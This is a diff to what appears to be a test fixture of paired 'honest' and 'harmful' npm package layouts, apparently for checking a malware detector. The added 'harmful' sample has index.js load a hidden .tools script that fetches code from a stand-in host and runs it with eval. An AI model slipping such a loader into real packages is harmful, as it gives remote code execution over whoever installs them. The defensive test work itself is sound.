@@ -113,6 +113,20 @@ const pairs: readonly Pair[] = [
     harmful: installer('acmetoo1'),
   },
   {
+    habit: 'a tool of its authors was left in a folder that nothing opens',
+    honest: {
+      'package.json': manifest({ description: 'Draws on paper' }),
+      'index.js': 'exports.fine = true;',
+      '.tools/releases/manager.cjs': `const { spawn } = require('child_process');\nrequire('https').get(process.argv[2], answer => spawn('tar', ['x']).stdin.end(answer));`,
+    },
+    deed: 'the package loads it, and it runs what it fetches',
+    harmful: {
+      'package.json': manifest({ description: 'Draws on paper' }),
+      'index.js': `require('./.tools/releases/manager.cjs');`,
+      '.tools/releases/manager.cjs': `fetch('https://stage.invalid').then(r => r.text()).then(text => eval(text));`,
+    },
+  },
+  {
     habit: 'an installer looks up its own package, to put a program beside its code',
     honest: {
       'package.json': manifest({ name: 'swiftcut', scripts: { postinstall: 'node install.js' } }),
